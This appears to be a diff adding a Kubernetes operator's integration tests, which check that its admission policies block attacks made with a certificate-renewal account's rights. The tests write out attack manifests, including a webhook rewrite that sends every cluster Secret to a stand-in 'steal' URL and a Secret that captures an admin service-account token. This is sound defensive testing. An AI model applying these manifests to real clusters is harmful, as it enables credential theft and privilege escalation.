@@ -1,0 +1,248 @@
+"""The chart's ValidatingAdmissionPolicies on a real API server: each test is an attack with stolen or modest rights.
+
+The server is these tests' own, since they remove policies. Attacks are dry runs, which admission treats as real ones.
+tests/integration/operator runs the real operator under the same policies.
+"""
+
+import json
+import re
+import subprocess
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+import yaml
+
+from tests.integration.conftest import an_api_server
+from tests.integration.test_chart_applied import SYSTEM, must, rendered
+from tests.integration.test_crd import wait_until_found
+
+if TYPE_CHECKING:
+    from tests.integration.conftest import ApiServer
+
+pytestmark = pytest.mark.timeout(240)  # the first test waits for the API server
+
+Raw = dict[str, Any]
+TEAM = "team"
+ROTATION = f"system:serviceaccount:{SYSTEM}:understudy-rotation"
+WEBHOOK = "understudy-webhook"
+CONFIGURATION = f"mutatingwebhookconfiguration/{WEBHOOK}"
+KUBE = "understudy.dev/v1alpha1"
+OWNED = [{"apiVersion": KUBE, "kind": "TrainingJob", "name": "llm", "uid": "1", "controller": True}]
+#: Until the API server's policies follow what was applied.
+POLICY_S = 30.0
+
+
+# What is there -------------------------------------------------------------------------------------------------------
+
+
+def an_object(kind: str, name: str, namespace: str = TEAM, owned: bool = False, **fields: Any) -> Raw:
+    version = "batch/v1" if kind == "Job" else "v1"
+    owners = {"ownerReferences": OWNED} if owned else {}
+    return {"apiVersion": version, "kind": kind, "metadata": {"name": name, "namespace": namespace, **owners}, **fields}
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator["ApiServer"]:
+    """With the chart installed, but for its pods."""
+    with an_api_server() as server:
+        folder = tmp_path_factory.mktemp("chart")
+        items = [x for x in yaml.load_all(rendered(server, "{}", folder, "--skip-tests"), yaml.CSafeLoader) if x]
+        left_out = ("Deployment", "Service", "PodDisruptionBudget", "ValidatingWebhookConfiguration")
+        for namespace in (SYSTEM, TEAM):
+            must(server.kubectl("create", "namespace", namespace))
+        apply(server, [item for item in items if item["kind"] not in left_out])
+        wait_until_found(server, "explain", "trainingjobs.spec")
+        wait_until_enforced(server, True)
+        yield server
+
+
+def apply(server: "ApiServer", items: list[Raw]) -> None:
+    text = json.dumps({"apiVersion": "v1", "kind": "List", "items": items})
+    must(server.kubectl("apply", "--server-side", "--force-conflicts", "-f", "-", stdin=text))
+
+
+def wait_until_enforced(server: "ApiServer", enforced: bool) -> None:
+    """Whether the policy refuses an attack."""
+    of_each = ("gets all Secrets of the cluster sent",)
+    deadline = time.monotonic() + POLICY_S
+    while any(bool(ATTACKS[attack][0](server)) is not enforced for attack in of_each):
+        assert time.monotonic() < deadline, "the policies do not follow"
+        time.sleep(0.2)
+
+
+# The attacks ---------------------------------------------------------------------------------------------------------
+
+#: Performs it as a dry run, and returns the API server's refusal, or an empty text.
+Attack = Callable[["ApiServer"], str]
+
+
+def as_user(server: "ApiServer", user: str, *words: str, stdin: str = "") -> str:
+    done = server.kubectl(*words, f"--as={user}", "--dry-run=server", stdin=stdin)
+    return "" if done.returncode == 0 else done.stderr
+
+
+def creates(user: str, manifest: Raw) -> Attack:
+    return lambda server: as_user(server, user, "create", "-f", "-", stdin=json.dumps(manifest))
+
+
+def rewrites(change: Callable[[Raw], object]) -> Attack:
+    """Of the webhook's configuration, with the rights of the process that renews the certificate."""
+
+    def attack(server: "ApiServer") -> str:
+        raw = json.loads(must(server.kubectl("get", CONFIGURATION, "-o", "json")))
+        change(raw)
+        return as_user(server, ROTATION, "replace", "-f", "-", stdin=json.dumps(raw))
+
+    return attack
+
+
+def only_webhook(raw: Raw) -> Raw:
+    (webhook,) = raw["webhooks"]
+    found: Raw = webhook
+    return found
+
+
+def _sees_all_secrets(raw: Raw) -> None:
+    everything = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"], "scope": "*"}
+    only_webhook(raw).update(rules=[everything], objectSelector={}, namespaceSelector={})
+    only_webhook(raw)["clientConfig"] = {"url": "https://203.0.113.7/steal", "caBundle": "QQ=="}
+
+
+def _adds_a_webhook(raw: Raw) -> None:
+    raw["webhooks"].append({**only_webhook(raw), "name": "second.understudy.dev"})
+
+
+def _calls_another_service(raw: Raw) -> None:
+    only_webhook(raw)["clientConfig"]["service"]["namespace"] = TEAM
+
+
+def _takes_every_namespace(raw: Raw) -> None:
+    only_webhook(raw)["namespaceSelector"] = {}
+
+
+def _stops_all_pods(raw: Raw) -> None:
+    only_webhook(raw).update(objectSelector={}, failurePolicy="Fail", timeoutSeconds=30)
+
+
+def _changes_the_mode(raw: Raw) -> None:
+    raw["metadata"]["annotations"]["understudy.dev/certificates"] = "Provided"
+
+
+TOKEN = {"annotations": {"kubernetes.io/service-account.name": "admin"}}
+
+
+def a_token_secret(namespace: str) -> Raw:
+    """The API server's controllers fill it with the token of that account."""
+    secret = an_object("Secret", "stolen", namespace, owned=True, type="kubernetes.io/service-account-token")
+    secret["metadata"] |= TOKEN
+    return secret
+
+
+MESSAGE_BUNDLE = "this account may change only caBundle of the webhook configurations"
+#: Attacks by name: each with the API server's message.
+ATTACKS: dict[str, tuple[Attack, str]] = {
+    # with the token of the process that renews the webhook's certificate
+    "gets all Secrets of the cluster sent": (rewrites(_sees_all_secrets), MESSAGE_BUNDLE),
+    "adds another webhook": (rewrites(_adds_a_webhook), MESSAGE_BUNDLE),
+    "has pods sent to a Service of another namespace": (rewrites(_calls_another_service), MESSAGE_BUNDLE),
+    "changes pods of every namespace": (rewrites(_takes_every_namespace), MESSAGE_BUNDLE),
+    "has all pods wait for the webhook": (rewrites(_stops_all_pods), MESSAGE_BUNDLE),
+    "takes the trust from another keeper": (rewrites(_changes_the_mode), MESSAGE_BUNDLE),
+    "makes a Secret with the operator's token": (
+        creates(ROTATION, a_token_secret(SYSTEM)),
+        "this account may write only the Secret of the webhook's certificate",
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [pytest.param(x, id=x, marks=pytest.mark.attack("D3", x, before="the API server allowed it")) for x in ATTACKS],
+)
+def test_the_api_server_refuses(server: "ApiServer", attack: str) -> None:
+    # when somebody tries
+    attempt, message = ATTACKS[attack]
+    said = attempt(server)
+    # then the API server refuses, by a policy of the chart, which says what is allowed
+    assert message in said
+    assert "ValidatingAdmissionPolicy" in said
+
+
+# What is allowed -----------------------------------------------------------------------------------------------------
+
+
+def _trusts_another_authority(raw: Raw) -> None:
+    only_webhook(raw)["clientConfig"]["caBundle"] = "QQ=="
+
+
+ALLOWED: dict[str, Attack] = {
+    "the keeper sets caBundle": rewrites(_trusts_another_authority),
+    "the keeper creates the certificate's Secret": creates(
+        ROTATION,
+        an_object("Secret", f"{WEBHOOK}-tls", SYSTEM, type="kubernetes.io/tls", data={"tls.crt": "", "tls.key": ""}),
+    ),
+}
+
+
+@pytest.mark.parametrize("act", ALLOWED)
+def test_the_api_server_still_allows(server: "ApiServer", act: str) -> None:
+    assert ALLOWED[act](server) == ""
+
+
+def test_each_field_of_a_webhook_is_compared_so_that_none_can_be_changed(server: "ApiServer") -> None:
+    # given what the API server knows of webhook configurations
+    path = "/openapi/v3/apis/admissionregistration.k8s.io/v1"
+    schemas = json.loads(must(server.kubectl("get", "--raw", path)))["components"]["schemas"]
+    prefix = "io.k8s.api.admissionregistration.v1."
+    policy = json.loads(must(server.kubectl("get", "validatingadmissionpolicy/understudy-rotation", "-o", "json")))
+    text = " ".join(x["expression"] for x in policy["spec"]["validations"])
+    compared = set(re.findall(r"before\.\?(\w+) == after\.\?\1\b", text))
+    in_config = set(re.findall(r"before\.clientConfig\.\?(\w+) == after\.clientConfig\.\?\1\b", text))
+    # then all fields are compared, but the one that is renewed
+    for kind in ("MutatingWebhook", "ValidatingWebhook"):
+        assert set(schemas[prefix + kind]["properties"]) - compared == {"name", "clientConfig"}
+    assert set(schemas[f"{prefix}WebhookClientConfig"]["properties"]) - in_config == {"caBundle"}
+
+
+def test_kubernetes_finds_no_error_in_the_policies(server: "ApiServer", tmp_path: Path) -> None:
+    """Its controller checks types, also of expressions that no test evaluates; it does not run here."""
+    command = [
+        str(server.binaries / "kube-controller-manager"),
+        f"--kubeconfig={server.kubeconfig}",
+        "--controllers=validatingadmissionpolicy-status-controller",
+        "--leader-elect=false",
+        "--secure-port=0",
+    ]
+    names = {"understudy-rotation"}
+    with (tmp_path / "log").open("wb") as log:
+        process = subprocess.Popen(["setpriv", "--pdeathsig", "KILL", "--", *command], stdout=log, stderr=log)
+    try:
+        deadline = time.monotonic() + 60.0
+        checked: dict[str, Raw] = {}
+        while checked.keys() != names:
+            assert time.monotonic() < deadline, (tmp_path / "log").read_text()[-4000:]
+            listed = json.loads(must(server.kubectl("get", "validatingadmissionpolicies", "-o", "json")))["items"]
+            told = {x["metadata"]["name"]: x.get("status", {}) for x in listed}
+            checked = {name: status for name, status in told.items() if "observedGeneration" in status}
+            time.sleep(0.2)
+    finally:
+        process.kill()
+        process.wait()
+    # Pods, Jobs, Secrets and Services share one policy, whose expressions ask first which of them it is.
+    warnings = [
+        warning["warning"]
+        for status in checked.values()
+        for warning in status.get("typeChecking", {}).get("expressionWarnings", ())
+    ]
+    assert [text for text in warnings if "undefined field" not in text] == []
+
+
+def test_without_the_policies_each_attack_succeeds(server: "ApiServer") -> None:
+    """So that no test above sees a refusal that has another reason. The last test, since it removes the policies."""
+    ours = ("-l", "app.kubernetes.io/name=understudy")
+    must(server.kubectl("delete", "validatingadmissionpolicybindings", *ours))
+    wait_until_enforced(server, False)
+    assert {name: said for name, (attempt, _) in ATTACKS.items() if (said := attempt(server))} == {}
